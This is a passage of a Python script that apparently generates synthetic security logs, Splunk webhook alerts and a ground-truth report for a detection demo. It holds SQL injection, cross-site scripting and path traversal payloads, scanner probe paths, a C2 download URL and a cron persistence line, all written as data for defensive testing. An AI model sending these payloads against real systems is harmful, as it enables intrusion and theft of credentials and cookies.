    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 "
    "(KHTML, like Gecko) Version/17.5 Mobile/15E148 Safari/604.1",
]
BROWSING_ADDRESSES = ["198.51.100.23", "198.51.100.87", "198.51.100.131", "203.0.113.45",
                      "203.0.113.92", "203.0.113.160", "203.0.113.201"]

# Probe paths a scanner requests on any web server.
PROBE_PATHS = ["/wp-login.php", "/.env", "/phpmyadmin/", "/phpmyadmin/index.php",
               "/.git/config", "/admin/", "/server-status", "/backup.zip", "/config.php.bak",
               "/wp-admin/", "/.htaccess", "/robots.txt"]
SQLI_TEMPLATES = [
    ("/showthread.php", "tid={n}%20UNION%20ALL%20SELECT%20NULL,CONCAT(username,0x3a,password),"
                        "NULL%20FROM%20mybb_users--%20-"),
    ("/showthread.php", "tid={n}'%20or%20'1'='1"),
    ("/showthread.php", "tid={n}%27%20OR%20%271%27%3D%271"),
    ("/forumdisplay.php", "fid={n}%20union%20select%201,2,3,version(),5--"),
    ("/member.php", "action=profile&uid={n}%20AND%201=1%20UNION%20SELECT%20user(),2"),
    ("/search.php", "action=do_search&keywords=x'+or+'1'='1'+--+"),
    ("/showthread.php", "tid={n}%20AND%20SLEEP(5)%20union%20select%20null--"),
]
XSS_TEMPLATES = [
    ("/search.php", "action=do_search&keywords=<script>alert(1)</script>"),
    ("/search.php", "action=do_search&keywords=%3Cscript%3Ealert(1)%3C%2Fscript%3E"),
    ("/member.php", "action=profile&uid=%3Cscript%3Ealert(document.cookie)%3C%2Fscript%3E"),
    ("/index.php", "q=%22%3E%3Cscript%3Ealert(1)%3C%2Fscript%3E"),
]
TRAVERSAL_TEMPLATES = [
    ("/misc.php", "page=../../../../etc/passwd"),
    ("/css.php", "stylesheet=..%2F..%2F..%2F..%2Fetc%2Fpasswd"),
    ("/attachment.php", "aid=../../../../../../etc/passwd"),
    ("/index.php", "template=....//....//....//etc/passwd"),
]


def http_request(t: datetime, src_ip: str, method: str, path: str, query: str, status: int,
                 agent: str, bytes_in: int, bytes_out: int, rng: random.Random) -> Record:
    """Builds an HTTP transaction, where bytes_out counts the request and bytes_in the response."""
    url = f"http://{SITE}{path}" + (f"?{query}" if query else "")
    raw_fields = {
        "src_ip": src_ip, "src_port": rng.randint(32768, 60999), "dest_ip": BREWERTALK_IP,
        "dest_port": 80, "site": SITE, "http_method": method, "uri_path": path,
        "uri_query": query, "url": url, "status": status, "http_user_agent": agent,
        "bytes_in": bytes_in, "bytes_out": bytes_out,
    }
    return stream_record(t, BREWERTALK, "stream:http", raw_fields, rng.uniform(0.004, 0.3))


def attack_status(category: str, rng: random.Random) -> int:
    """Draws a response status: sqli mostly 500 or 403, the rest mostly 403 or 404."""
    # Cumulative probabilities, then the status of each band and of the remainder.
    bands = {"sqli": ([0.45, 0.9], [500, 403], 200), "xss": ([0.85], [403], 200),
             "traversal": ([0.6], [403], 404), "probe": ([0.85], [404], 403)}
    limits, statuses, remainder = bands[category]
    roll = rng.random()
    for limit, status in zip(limits, statuses):
        if roll < limit:
            return status
    return remainder


def gen_web_attack(rng: random.Random) -> dict:
    """Writes Nikto's probes (18:00-18:12), then sqlmap's injections (18:12-18:30)."""
    plan = ([("probe", None)] * 84 + [("xss", None)] * 46 + [("traversal", None)] * 38)
    rng.shuffle(plan)
    records, requests = [], []
    t = at(18, 0, 2.87)
    for n, (category, _) in enumerate(plan):
        if category == "probe":
            path, query = rng.choice(PROBE_PATHS), ""
        elif category == "xss":
            path, query = rng.choice(XSS_TEMPLATES)
        else:
            path, query = rng.choice(TRAVERSAL_TEMPLATES)
        status = 200 if path == "/robots.txt" else attack_status(category, rng)
        agent = NIKTO_AGENT.format(test=1000 + n * 7)
        requests.append((t, category, path, query, status, agent))
        t += timedelta(seconds=rng.uniform(2.0, 6.0))
    t = max(t, at(18, 12, 0.5))
    while t < at(18, 29, 40):
        path, query = rng.choice(SQLI_TEMPLATES)
        query = query.format(n=rng.randint(1, 60))
        requests.append((t, "sqli", path, query, attack_status("sqli", rng), SQLMAP_AGENT))
        t += timedelta(seconds=rng.uniform(4.0, 11.0))
    for t, category, path, query, status, agent in requests:
        bytes_out = 180 + len(path) + len(query) + len(agent)
        bytes_in = rng.randint(9_000, 40_000) if status == 200 else rng.randint(300, 1_800)
        records.append(http_request(t, WEB_ATTACKER, "GET", path, query, status, agent,
                                    bytes_in, bytes_out, rng))
    return {"records": records, "requests": requests}


def gen_web_background(rng: random.Random) -> list[Record]:
    """Writes ordinary forum browsing from several addresses."""
    pages = [("/index.php", ""), ("/forumdisplay.php", "fid={n}"), ("/showthread.php", "tid={n}"),
             ("/member.php", "action=profile&uid={n}"), ("/search.php", "action=do_search&"
              "keywords=stout"), ("/css.php", "stylesheet=1"), ("/jscripts/jquery.js", ""),
             ("/images/logo.png", ""), ("/favicon.ico", "")]
    records = []
    t = at(7, 0, 14.0)
    while t < at(23, 30, 0):
        src = rng.choice(BROWSING_ADDRESSES)
        agent = rng.choice(BROWSER_AGENTS)
        path, query = rng.choice(pages)
        query = query.format(n=rng.randint(1, 60))
        roll = rng.random()
        if path == "/favicon.ico":
            status = 404
        elif roll < 0.15:
            status = 304
        else:
            status = 200
        bytes_in = rng.randint(4_000, 60_000) if status == 200 else rng.randint(200, 600)
        bytes_out = 350 + len(path) + len(query) + len(agent)
        method = "POST" if path == "/search.php" and roll > 0.8 else "GET"
        records.append(http_request(t, src, method, path, query, status, agent, bytes_in,
                                    bytes_out, rng))
        t += timedelta(seconds=rng.uniform(60, 260))
    return records


# ---------------------------------------------------------------------------
# Webhook alerts


@dataclass
class AlertSpec:
    """One saved search's firing: its name, schedule and window, and its first row."""

    key: str
    search_name: str
    scheduled: datetime
    earliest: datetime
    serial: int
    record: Record
    extra: dict


def punct(raw: str) -> str:
    """Approximates Splunk's punct: punctuation kept, spaces as `_`, 30 characters."""
    out = []
    for char in raw:
        if char == " ":
            out.append("_")
        elif not char.isalnum() and not char.isspace():
            out.append(char)
        if len(out) == 30:
            break
    return "".join(out)


def sid_for(spec: AlertSpec) -> str:
    digest = hashlib.md5(spec.search_name.encode()).hexdigest()[:16]
    return (f"scheduler__{SPLUNK_OWNER}__{SPLUNK_APP}__RMD5{digest}"
            f"_at_{epoch(spec.scheduled)}_{spec.serial}")


def alert_payload(spec: AlertSpec, sourcetype: str, bucket: int, rng: random.Random) -> dict:
    """Builds the webhook body Splunk posts: six keys, `result` the first row as strings."""
    record = spec.record
    row = {name: value for name, value in record.fields.items() if name != "_time"}
    guid = "-".join(rng.randbytes(n).hex().upper() for n in (4, 2, 2, 2, 6))
    row.update({
        "_bkt": f"main~{bucket}~{guid}",
        "_cd": f"{bucket}:{rng.randint(100_000, 9_000_000)}",
        "_indextime": str(epoch(record.time) + rng.randint(1, 4)),
        "_serial": "0",
        "_si": [INDEXER, "main"],
        "_sourcetype": sourcetype,
        "_time": str(epoch(record.time)),
        "linecount": str(record.fields["_raw"].count("\n") + 1),
        "punct": punct(record.fields["_raw"]),
        "splunk_server": INDEXER,
    })
    row.update({name: str(value) for name, value in spec.extra.items()})
    sid = sid_for(spec)
    return {
        "sid": sid,
        "search_name": spec.search_name,
        "app": SPLUNK_APP,
        "owner": SPLUNK_OWNER,
        "results_link": f"{SPLUNK_WEB}/app/{SPLUNK_APP}/@go?sid={sid}",
        "result": dict(sorted(row.items())),
    }


def linux_secure_fields(record: Record) -> dict:
    """Extracts the fields that the SSH saved search's `rex` takes from a secure line."""
    match = re.search(r"for (?:invalid user )?(\S+) from (\S+) port (\d+)", record.line)
    return {"_raw": record.line, "host": GACRUX, "source": "/var/log/secure",
            "sourcetype": "linux_secure", "index": "main", "user": match.group(1),
            "src_ip": match.group(2), "src_port": match.group(3)}


def in_window(times: list[datetime], spec_earliest: datetime, spec_scheduled: datetime) -> bool:
    return all(spec_earliest <= t < spec_scheduled for t in times)


def build_alerts(rng: random.Random, parts: dict) -> dict:
    """Builds the five payloads and checks each window covers its whole phase."""
    ssh, c2, mining, win, web = (parts[k] for k in ("ssh", "c2", "mining", "windows", "web"))
    last_failed = ssh["failed"][-1][2]
    ssh_record = Record(last_failed.time, last_failed.line, linux_secure_fields(last_failed))
    connections = c2["beacons"] + [c2["upload"]]
    last_c2 = max(connections, key=lambda r: r.time)
    miner_records = mining["records"]
    attack_win = [r for r in win["records"] if r.fields["Source_Network_Address"] == WIN_ATTACKER]

    specs = [
        AlertSpec("ssh_brute_force", "SSH Brute Force Detected", at(9, 50), at(8, 50), 1731,
                  ssh_record, {"count": len(ssh["failed"]),
                               "user_count": len({u for _, u, _ in ssh["failed"]})}),
        AlertSpec("suspicious_outbound", "Suspicious Outbound Connection", at(12, 5), at(9, 0),
                  2267, last_c2, {"count": len(connections), "total_bytes_out":
                                  sum(int(r.fields["bytes_out"]) for r in connections)}),
        AlertSpec("cryptomining", "Cryptomining Activity Detected", at(15, 5), at(12, 0), 2815,
                  miner_records[-1], {"count": len(miner_records), "domain_count":
                                      len({q for _, q in mining["queries"]})}),
        AlertSpec("windows_auth_failure", "Windows Authentication Failure Spike", at(16, 25),
                  at(15, 25), 3044, attack_win[-1],
                  {"count": len(attack_win), "account_count":
                   len({r.fields["Account_Name"] for r in attack_win})}),
        AlertSpec("web_attack", "Suspicious Web Request Detected", at(18, 35), at(17, 35), 3561,
                  web["records"][-1], {"count": len(web["records"])}),
    ]

    phase_times = {
        "ssh_brute_force": [t for t, _, _ in ssh["failed"]],
        "suspicious_outbound": [r.time for r in connections],
        "cryptomining": [r.time for r in miner_records],
        "windows_auth_failure": [r.time for r in attack_win],
        "web_attack": [r.time for r in web["records"]],
    }
    sourcetypes = {"ssh_brute_force": "linux_secure", "suspicious_outbound": "stream:tcp",
                   "cryptomining": "stream:dns", "windows_auth_failure": "WinEventLog:Security",
                   "web_attack": "stream:http"}

    alerts = {}
    for bucket, spec in enumerate(specs, start=38):
        if not in_window(phase_times[spec.key], spec.earliest, spec.scheduled):
            raise SystemExit(f"alert {spec.key}: its window misses part of the phase")
        alerts[spec.key] = {"spec": spec,
                            "payload": alert_payload(spec, sourcetypes[spec.key], bucket, rng)}
    return alerts


# ---------------------------------------------------------------------------
# Ground truth: demo/story.json and demo/STORY.md


TECHNIQUE_NAMES = {
    "T1110": "Brute Force", "T1110.001": "Password Guessing", "T1078": "Valid Accounts",
    "T1078.003": "Local Accounts", "T1021.004": "SSH",
    "T1033": "System Owner/User Discovery", "T1082": "System Information Discovery",
    "T1087": "Account Discovery", "T1087.001": "Local Account", "T1057": "Process Discovery",
    "T1049": "System Network Connections Discovery",
    "T1016": "System Network Configuration Discovery", "T1105": "Ingress Tool Transfer",
    "T1222": "File and Directory Permissions Modification",
    "T1222.002": "Linux and Mac File and Directory Permissions Modification",
    "T1059": "Command and Scripting Interpreter", "T1059.004": "Unix Shell",
    "T1053": "Scheduled Task/Job", "T1053.003": "Cron", "T1070": "Indicator Removal",
    "T1070.003": "Clear Command History", "T1071": "Application Layer Protocol",
    "T1571": "Non-Standard Port", "T1041": "Exfiltration Over C2 Channel",
    "T1496": "Resource Hijacking", "T1496.001": "Compute Hijacking",
    "T1190": "Exploit Public-Facing Application", "T1595": "Active Scanning",
    "T1595.002": "Vulnerability Scanning",
}


def techniques(*ids: str) -> list[dict]:
    return [{"id": i, "name": TECHNIQUE_NAMES[i]} for i in ids]


def iso(t: datetime) -> str:
    return t.isoformat(timespec="microseconds")


def ssh_facts(ssh: dict, login: dict, background: dict) -> dict:
    failed = ssh["failed"]
    accounts = sorted({u for _, u, _ in failed})
    return {
        "host": GACRUX, "host_ip": GACRUX_IP, "src_ip": SSH_ATTACKER,
        "failed_password_count": len(failed),
        "failed_password_valid_user_count": sum(1 for _, u, _ in failed if u in GACRUX_ACCOUNTS),
        "failed_password_invalid_user_count":
            sum(1 for _, u, _ in failed if u not in GACRUX_ACCOUNTS),
        "invalid_user_line_count": ssh["invalid_user_lines"],
        "connection_count": ssh["connections"],
        "accounts": accounts,
        "account_count": len(accounts),
        "valid_accounts_tried": [a for a in accounts if a in GACRUX_ACCOUNTS],
        "invalid_accounts_tried": [a for a in accounts if a not in GACRUX_ACCOUNTS],
        "first_seen": iso(failed[0][0]), "last_seen": iso(failed[-1][0]),
        "accepted_from_src_ip": 0,
        "benign_failed_password_count": background["benign_failed_password"],
        "benign_failed_password_src_ip": background["benign_failed_password_src"],
        "login": {"user": login["user"], "src_ip": login["src_ip"],
                  "src_port": login["src_port"], "method": "password",
                  "time": iso(login["time"]), "logout": iso(login["logout"])},
        "techniques": techniques("T1110", "T1110.001", "T1078", "T1078.003", "T1021.004"),
    }


def post_compromise_facts(proc: dict) -> dict:
    commands = proc["commands"]
    ids = []
    for command in commands:
        ids.extend(i for i in command["techniques"] if i not in ids)
    return {
        "host": GACRUX, "user": "ec2-user", "shell_pid": proc["shell_pid"],
        "commands": [{"time": iso(c["time"]), "command": c["command"], "image": c["image"],
                      "pid": c["pid"], "techniques": c["techniques"]} for c in commands],
        "command_lines": [c["command"] for c in commands],
        "first_command": iso(commands[0]["time"]), "last_command": iso(commands[-1]["time"]),
        "download_url": f"http://{C2_IP}/x.sh", "dropped_file": "/tmp/x.sh",
        "cron_entry": "*/5 * * * * /tmp/x.sh", "cron_run_count": proc["cron_runs"],
        "techniques": techniques(*ids),
    }


def c2_facts(c2: dict) -> dict:
    beacons, upload, download = c2["beacons"], c2["upload"], c2["download"]
    gaps = [(b.time - a.time).total_seconds() for a, b in zip(beacons, beacons[1:])]
    port_4444 = beacons + [upload]
    return {
        "host": GACRUX, "src_ip": GACRUX_IP, "dest_ip": C2_IP, "dest_port": C2_PORT,
        "beacon_count": len(beacons),
        "beacon_bytes_out": sum(int(b.fields["bytes_out"]) for b in beacons),
        "beacon_interval_seconds_mean": round(sum(gaps) / len(gaps), 3),
        "beacon_interval_seconds_min": round(min(gaps), 3),
        "beacon_interval_seconds_max": round(max(gaps), 3),
        "first_beacon": iso(beacons[0].time), "last_beacon": iso(beacons[-1].time),
        "upload_time": iso(upload.time), "upload_bytes_out": int(upload.fields["bytes_out"]),
        "port_4444_connection_count": len(port_4444),
        "port_4444_bytes_out": sum(int(r.fields["bytes_out"]) for r in port_4444),
        "download": {"time": iso(download.time), "dest_port": 80,
                     "bytes_in": int(download.fields["bytes_in"]),
                     "bytes_out": int(download.fields["bytes_out"])},
        "all_bytes_out_to_dest_ip": sum(int(r.fields["bytes_out"]) for r in port_4444 + [download]),
        "techniques": techniques("T1071", "T1571", "T1041"),
    }


def mining_facts(mining: dict) -> dict:
    queries = mining["queries"]
    coinhive = [q for _, q in queries if q == "coinhive.com" or q.endswith(".coinhive.com")]
    minexmr = [q for _, q in queries if q == "pool.minexmr.com"]
    per_domain = {}
    for _, query in queries:
        per_domain[query] = per_domain.get(query, 0) + 1
    return {
        "host": MERCURY, "src_ip": MERCURY_IP, "resolver": VPC_RESOLVER,
        "miner_query_count": len(queries), "coinhive_query_count": len(coinhive),
        "minexmr_query_count": len(minexmr),
        "domains": sorted(per_domain), "domain_count": len(per_domain),
        "queries_by_domain": dict(sorted(per_domain.items())),
        "first_seen": iso(queries[0][0]), "last_seen": iso(queries[-1][0]),
        "answers": dict(sorted(MINER_ANSWERS.items())),
        "techniques": techniques("T1496", "T1496.001"),
    }


def windows_facts(win: dict) -> dict:
    attack = win["attack"]
    per_account, per_sub_status = {}, {}
    for event in attack:
        per_account[event.account] = per_account.get(event.account, 0) + 1
        per_sub_status[event.sub_status] = per_sub_status.get(event.sub_status, 0) + 1
    return {
        "host": HILDEGARD, "host_ip": HILDEGARD_IP, "src_ip": WIN_ATTACKER,
        "workstation": WIN_ATTACKER_WORKSTATION, "event_code": 4625, "logon_type": 3,
        "failure_count": len(attack), "accounts": sorted(per_account),
        "account_count": len(per_account),
        "failures_by_account": dict(sorted(per_account.items())),
        "failures_by_sub_status": dict(sorted(per_sub_status.items())),
        "first_seen": iso(attack[0].time), "last_seen": iso(attack[-1].time),
        "successes_from_src_ip": 0,
        "techniques": techniques("T1110", "T1110.001"),
    }


def web_facts(web: dict) -> dict:
    requests = web["requests"]
    by_category, by_status, by_agent = {}, {}, {"sqlmap": 0, "nikto": 0}
    for _, category, _, _, status, agent in requests:
        by_category[category] = by_category.get(category, 0) + 1
        by_status[str(status)] = by_status.get(str(status), 0) + 1
        by_agent["sqlmap" if agent.startswith("sqlmap") else "nikto"] += 1
    last = requests[-1]
    return {
        "site": SITE, "host": BREWERTALK, "dest_ip": BREWERTALK_IP, "src_ip": WEB_ATTACKER,
        "request_count": len(requests),
        "requests_by_pattern": dict(sorted(by_category.items())),
        "requests_by_status": dict(sorted(by_status.items())),
        "requests_by_user_agent": by_agent,
        "probe_paths": sorted({p for _, c, p, _, _, _ in requests if c == "probe"}),
        "first_seen": iso(requests[0][0]), "last_seen": iso(requests[-1][0]),
        "last_uri_query": last[3],
        "techniques": techniques("T1595", "T1595.002", "T1190"),
    }


def alert_facts(alerts: dict) -> dict:
    facts = {}
    for key, alert in alerts.items():
        spec, payload = alert["spec"], alert["payload"]
        facts[key] = {
            "file": f"demo/alerts/{key}.json", "search_name": spec.search_name,
            "sid": payload["sid"], "scheduled_time": iso(spec.scheduled),
            "window": [iso(spec.earliest), iso(spec.scheduled)],
            "result": {k: v for k, v in payload["result"].items() if not k.startswith("_")
                       and k not in ("punct", "linecount", "splunk_server", "index", "source")},
        }
    return facts


def story_markdown(story: dict) -> str:
    """Renders story.json as the human-readable ground truth."""
    ssh, post, c2 = story["ssh_brute_force"], story["post_compromise"], story["c2"]
    mining, win, web = story["cryptomining"], story["windows_auth_failure"], story["web_attack"]
    login = ssh["login"]
    lines = [
        "# The demo's ground truth",
        "",
        "`scripts/gen_demo.py` writes this file and `story.json` while it generates the",
        "evidence, from its own records of what it wrote; no Argus code computes them. Its",
        "self-check re-reads the written files and re-counts each part's main numbers (failures",
        "and accounts, commands, connections and bytes, lookups, logon failures by account and",
        "sub status, requests by pattern and status, and each alert's count) with plain string",
        "tests before it exits.",
        "Times are UTC on 2026-08-02.",
        "",
        "## 1. SSH brute force against gacrux (alert `ssh_brute_force.json`)",
        "",
        f"- Host {ssh['host']} ({ssh['host_ip']}); attacker {ssh['src_ip']}.",
        f"- {ssh['failed_password_count']} `Failed password` lines from {ssh['src_ip']} "
        f"({ssh['failed_password_valid_user_count']} for existing accounts, "
        f"{ssh['failed_password_invalid_user_count']} for invalid users) over "
        f"{ssh['connection_count']} connections, plus {ssh['invalid_user_line_count']} "
        "`Invalid user` lines.",
        f"- First failure {ssh['first_seen']}, last {ssh['last_seen']}.",
        f"- {ssh['account_count']} accounts tried: {', '.join(ssh['accounts'])}.",
        f"  Existing on gacrux: {', '.join(ssh['valid_accounts_tried'])}.",
        f"- No login succeeded from {ssh['src_ip']}. The only other failures are "
        f"{ssh['benign_failed_password_count']} from {ssh['benign_failed_password_src_ip']} "
        "(a user mistyping a password).",
        f"- At {login['time']} `Accepted password for {login['user']}` from {login['src_ip']} "
        f"port {login['src_port']}; the session closed at {login['logout']}.",
        "",
        "## 2. Post-compromise activity on gacrux (process events)",
        "",
        f"Commands run by {post['user']} from the login shell (pid {post['shell_pid']}):",
        "",
        "| time | command | techniques |",
        "| --- | --- | --- |",
    ]
    for command in post["commands"]:
        text = command["command"].replace("|", "\\|")
        lines.append(f"| {command['time'][11:19]} | `{text}` | "
                     f"{', '.join(command['techniques'])} |")
    lines += [
        "",
        f"cron then ran `/tmp/x.sh` {post['cron_run_count']} times, every five minutes from "
        "10:00. gacrux was taken off the network at 12:00, so none of its logs or flows "
        "go past 12:00.",
        "",
        "## 3. Command and control from gacrux (alert `suspicious_outbound.json`)",
        "",
        f"- {c2['beacon_count']} beacons from {c2['src_ip']} to {c2['dest_ip']}:{c2['dest_port']},"
        f" {c2['first_beacon']} to {c2['last_beacon']}, mean interval "
        f"{c2['beacon_interval_seconds_mean']} s (min {c2['beacon_interval_seconds_min']}, "
        f"max {c2['beacon_interval_seconds_max']}).",
        f"- One upload at {c2['upload_time']}: {c2['upload_bytes_out']} bytes out.",
        f"- Port {c2['dest_port']} in all: {c2['port_4444_connection_count']} connections, "
        f"{c2['port_4444_bytes_out']} bytes out.",
        f"- The 09:55 download of x.sh is one port-80 flow ({c2['download']['bytes_in']} bytes "
        f"in); all bytes out to {c2['dest_ip']}: {c2['all_bytes_out_to_dest_ip']}.",
        "",
        "## 4. Cryptomining on mercury (alert `cryptomining.json`)",
        "",
        f"- {mining['miner_query_count']} lookups from {mining['host']} ({mining['src_ip']}) "
        f"to {mining['resolver']}: {mining['coinhive_query_count']} for coinhive.com and its "
        f"subdomains, {mining['minexmr_query_count']} for pool.minexmr.com.",
        f"- {mining['domain_count']} domains: "
        + ", ".join(f"{d} ({n})" for d, n in mining["queries_by_domain"].items()) + ".",
        f"- First {mining['first_seen']}, last {mining['last_seen']}.",
        "",
        "## 5. Windows logon failures on hildegard (alert `windows_auth_failure.json`)",
        "",
        f"- {win['failure_count']} events 4625 (logon type {win['logon_type']}) from "
        f"{win['src_ip']} (workstation {win['workstation']}), {win['first_seen']} to "
        f"{win['last_seen']}; no 4624 from that address.",
        f"- {win['account_count']} accounts: "
        + ", ".join(f"{a} ({n})" for a, n in win["failures_by_account"].items()) + ".",
        "- By sub status: "
        + ", ".join(f"{s} ({n})" for s, n in win["failures_by_sub_status"].items())
        + ". 0xC000006A means a bad password for an existing account, 0xC0000064 no such user.",
        "",
        "## 6. Web attack on brewertalk (alert `web_attack.json`)",
        "",
        f"- {web['request_count']} requests from {web['src_ip']} to {web['site']} "
        f"({web['dest_ip']}), {web['first_seen']} to {web['last_seen']}.",
        "- By pattern: " + ", ".join(f"{p} {n}" for p, n in web["requests_by_pattern"].items())
        + ". By status: " + ", ".join(f"{s} {n}" for s, n in web["requests_by_status"].items())
        + ". By tool: " + ", ".join(f"{a} {n}" for a, n in web["requests_by_user_agent"].items())
        + ".",
        "- Patterns: `sqli` is `union select` or `' or '1'='1` in the decoded query, `xss` a",
        "  `<script>` tag, `traversal` a `../` sequence, `probe` a request for a known",
        "  sensitive path (" + ", ".join(web["probe_paths"]) + ").",
        "",
        "## ATT&CK techniques by part",
        "",
        "| part | techniques |",
        "| --- | --- |",
    ]
    for key in ("ssh_brute_force", "post_compromise", "c2", "cryptomining",
                "windows_auth_failure", "web_attack"):
        names = ", ".join(f"{t['id']} {t['name']}" for t in story[key]["techniques"])
        lines.append(f"| {key} | {names} |")
    lines += [
        "",
        "## Alerts",
        "",
        "Each payload is the run named in its sid. The runs were chosen after each phase",
        "ended, so every `count` covers the whole phase. With the throttling in",
        "`splunk/savedsearches.conf`, a live Splunk would send the first matching run",
        "instead, whose count is smaller.",
        "",
        "| file | search | run | window start | count |",
        "| --- | --- | --- | --- | --- |",
    ]
    for alert in story["alerts"].values():
        lines.append(f"| `{alert['file']}` | {alert['search_name']} | "
                     f"{alert['scheduled_time'][11:16]} | {alert['window'][0][11:16]} | "
                     f"{alert['result']['count']} |")
    return "\n".join(lines) + "\n"


# ---------------------------------------------------------------------------
# Writing and the self-check


def write_json(path: Path, value) -> None:
    """Writes one JSON document on one line, as Splunk's webhook sends its body."""
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(json.dumps(value, ensure_ascii=False) + "\n", encoding="utf-8")


def generate(root: Path) -> dict:
    """Generates every part in a fixed order (the order fixes the random stream)."""
    rng = random.Random(SEED)
    log = SecureLog(rng)
    background = gen_secure_background(log)
    ssh = gen_brute_force(log)
    login = gen_intruder_login(log)
    cron_runs = gen_cron_persistence(log)
    proc = gen_processes(rng, login["time"], cron_runs)
    c2 = gen_c2(rng, login["time"])
    tcp_background = gen_tcp_background(rng)
    mining = gen_mining(rng)
    dns_background = gen_dns_background(rng)
    win = gen_windows(rng)
    web = gen_web_attack(rng)
    web_background = gen_web_background(rng)

    evidence = root / "demo" / "evidence"
    write_lines(evidence / "gacrux" / "secure.log", log.records)
    write_lines(evidence / "gacrux" / "process.json", proc["records"])
    write_lines(evidence / "network" / "stream_tcp.json", c2["records"] + tcp_background)
    write_lines(evidence / "network" / "stream_dns.json", mining["records"] + dns_background)
    write_lines(evidence / "windows" / "hildegard_security.json", win["records"])
    write_lines(evidence / "network" / "stream_http.json", web["records"] + web_background)

    parts = {"ssh": ssh, "c2": c2, "mining": mining, "windows": win, "web": web}
    alerts = build_alerts(rng, parts)
    for key, alert in alerts.items():
        write_json(root / "demo" / "alerts" / f"{key}.json", alert["payload"])

    story = {
        "date": DAY.date().isoformat(),
        "seed": SEED,
        "ssh_brute_force": ssh_facts(ssh, login, background),
        "post_compromise": post_compromise_facts(proc),
        "c2": c2_facts(c2),
        "cryptomining": mining_facts(mining),
        "windows_auth_failure": windows_facts(win),
        "web_attack": web_facts(web),
        "alerts": alert_facts(alerts),
    }
    story["event_counts"] = count_events(evidence)
    write_json(root / "demo" / "story.json", story)
    (root / "demo" / "STORY.md").write_text(story_markdown(story), encoding="utf-8")
    return story


def count_events(evidence: Path) -> dict:
    counts = {}
    for path in sorted(evidence.rglob("*")):
        if path.suffix in (".log", ".json"):
            with path.open(encoding="utf-8") as handle:
                counts[path.relative_to(evidence).as_posix()] = sum(1 for _ in handle)
    counts["total"] = sum(counts.values())
    return counts


SYSLOG_LINE = re.compile(
    r"^\d{4}-\d{2}-\d{2}T\d{2}:\d{2}:\d{2}\.\d{6}\+00:00 \S+ [\w.-]+\[\d+\]: .*\S$")


class Check:
    """Collects self-check mismatches so one run reports all of them."""

    def __init__(self):
        self.failures: list[str] = []

    def equal(self, what: str, found, expected) -> None:
        if found != expected:
            self.failures.append(f"{what}: files hold {found!r}, story says {expected!r}")


def read_json_lines(path: Path, check: Check) -> list[dict]:
    rows = []
    for number, line in enumerate(path.read_text(encoding="utf-8").splitlines(), start=1):
        try:
            rows.append(json.loads(line))
        except json.JSONDecodeError as err:
            check.failures.append(f"{path}:{number}: invalid JSON: {err}")
    return rows


def check_secure(path: Path, story: dict, check: Check) -> None:
    lines = path.read_text(encoding="utf-8").splitlines()
    bad = [n for n, line in enumerate(lines, start=1) if not SYSLOG_LINE.match(line)]
    check.equal("secure.log lines not in ISO syslog form", bad[:5], [])
    ssh = story["ssh_brute_force"]
    attacker = f" from {SSH_ATTACKER} port "
    failed = [line for line in lines if "Failed password for " in line and attacker in line]
    check.equal("failed passwords from attacker", len(failed), ssh["failed_password_count"])
    users = set()
    for line in failed:
        words = line.split("Failed password for ", 1)[1].split(" from ", 1)[0].split(" ")
        users.add(words[-1])
    check.equal("accounts tried", sorted(users), ssh["accounts"])
    check.equal("first failure", failed[0][:32], ssh["first_seen"][:26] + "+00:00")
    check.equal("last failure", failed[-1][:32], ssh["last_seen"][:26] + "+00:00")
    accepted = [line for line in lines if "Accepted " in line]
    check.equal("logins from attacker", sum(SSH_ATTACKER in line for line in accepted), 0)
    intruder = [line for line in accepted if f"from {SSH_INTRUDER} " in line]
    check.equal("intruder logins", len(intruder), 1)
    login_words = intruder[0].split() if intruder else []
    check.equal("intruder login", login_words[:1] + login_words[3:6],
                [ssh["login"]["time"][:26] + "+00:00", "Accepted", "password", "for"])
    check.equal("intruder account", login_words[6:7], [ssh["login"]["user"]])
    invalid = [line for line in lines if "Invalid user " in line and attacker in line]
    check.equal("invalid user lines", len(invalid), ssh["invalid_user_line_count"])
    other_failed = [line for line in lines if "Failed password" in line and attacker not in line]
    check.equal("benign failed passwords", len(other_failed),
                ssh["benign_failed_password_count"])


def check_processes(path: Path, story: dict, check: Check) -> None:
    rows = read_json_lines(path, check)
    post = story["post_compromise"]
    typed = [r["CommandLine"] for r in rows if r["User"] == "ec2-user"
             and r["ParentImage"] == "/bin/bash" and "T09:5" in r["_time"]]
    check.equal("intruder commands", typed, post["command_lines"])
    cron = [r for r in rows if r["CommandLine"] == "/bin/sh -c /tmp/x.sh"]
    check.equal("cron runs of x.sh", len(cron), post["cron_run_count"])
    for row in rows:
        if f'CommandLine="{row["CommandLine"]}"' not in row["_raw"]:
            check.failures.append(f"process _raw lacks its CommandLine: {row['_raw']}")


def check_tcp(path: Path, story: dict, check: Check) -> None:
    rows = read_json_lines(path, check)
    c2 = story["c2"]
    to_c2 = [r for r in rows if r["dest_ip"] == C2_IP and r["dest_port"] == str(C2_PORT)]
    check.equal("port 4444 connections", len(to_c2), c2["port_4444_connection_count"])
    check.equal("port 4444 bytes out", sum(int(r["bytes_out"]) for r in to_c2),
                c2["port_4444_bytes_out"])
    big = [r for r in to_c2 if int(r["bytes_out"]) > 1_000_000]
    check.equal("uploads", len(big), 1)
    check.equal("beacons", len(to_c2) - len(big), c2["beacon_count"])
    every = [r for r in rows if r["dest_ip"] == C2_IP]
    check.equal("all bytes out to C2", sum(int(r["bytes_out"]) for r in every),
                c2["all_bytes_out_to_dest_ip"])
    for row in rows:
        raw = json.loads(row["_raw"])
        if str(raw["bytes_out"]) != row["bytes_out"] or raw["dest_ip"] != row["dest_ip"]:
            check.failures.append(f"stream:tcp _raw disagrees with its fields: {row['_raw']}")
        if row["host"] == GACRUX and row["_time"] >= "2026-08-02T12:00":
            check.failures.append(f"gacrux flow after 12:00: {row['_time']}")


def check_dns(path: Path, story: dict, check: Check) -> None:
    rows = read_json_lines(path, check)
    mining = story["cryptomining"]
    coinhive = [r for r in rows if r["query"] == "coinhive.com"
                or r["query"].endswith(".coinhive.com")]
    minexmr = [r for r in rows if "minexmr" in r["query"]]
    check.equal("coinhive lookups", len(coinhive), mining["coinhive_query_count"])
    check.equal("minexmr lookups", len(minexmr), mining["minexmr_query_count"])
    check.equal("mining domains", sorted({r["query"] for r in coinhive + minexmr}),
                mining["domains"])
    check.equal("mining lookups from other hosts",
                [r["host"] for r in coinhive + minexmr if r["host"] != MERCURY], [])


